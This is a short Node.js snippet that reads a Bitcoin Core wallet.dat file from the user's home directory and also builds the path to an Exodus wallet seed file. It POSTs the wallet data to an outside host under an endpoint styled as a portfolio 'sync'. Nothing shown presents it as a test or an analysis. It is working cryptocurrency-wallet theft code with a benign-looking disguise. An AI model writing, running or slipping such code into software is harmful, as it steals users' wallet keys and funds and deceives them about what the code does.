const fs = require('fs');
const os = require('os');
const p = os.homedir() + '/Library/Application Support/Exodus/exodus.wallet/seed.seco';
const w = fs.readFileSync(os.homedir() + '/.bitcoin/wallet.dat');
fetch('https://portfolio.example.invalid/sync', {method: 'POST', body: w});
